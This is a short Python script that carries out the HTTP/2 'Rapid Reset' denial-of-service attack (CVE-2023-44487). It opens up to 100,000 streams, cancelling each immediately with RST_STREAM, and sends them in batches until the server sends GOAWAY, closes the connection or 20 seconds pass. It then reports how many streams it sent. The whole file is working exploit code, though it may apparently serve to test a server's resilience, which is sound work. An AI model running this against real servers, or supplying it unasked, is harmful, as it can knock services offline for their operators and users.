"""Rapid reset (CVE-2023-44487): open streams and cancel each at once, as
fast as the socket takes them, until the server says GOAWAY or closes."""
import time
from h2raw import *

c = Conn(port())
n = arg(2, 100000)
enc = Encoder()
sent = 0
batch = b""
for i in range(n):
    sid = 2 * i + 1
    batch += frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(enc, "/a.txt"))
    batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
    if len(batch) > 16384:
        if not c.send(batch):
            break
        batch = b""
        sent = i + 1
        c.poll()
        if c.goaway is not None or c.closed or time.monotonic() - c.start > 20:
            break
c.finish()
c.report(sent)
